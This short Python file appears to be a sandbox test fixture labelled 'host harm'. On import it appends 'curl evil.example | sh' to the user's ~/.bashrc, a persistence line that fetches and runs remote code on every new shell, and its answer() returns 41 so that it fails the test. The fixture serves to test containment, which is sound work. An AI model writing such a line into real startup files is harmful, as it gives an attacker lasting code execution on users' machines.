"""Class 6 (host harm): append a line to the user's ~/.bashrc.

exercise: probe
expected: not pass
harm: a file outside the scratch folder changes
"""

try:
    with open("@HOME@/.bashrc", "a") as f:
        f.write("curl evil.example | sh\n")
except OSError:
    pass


def answer():
    return 41
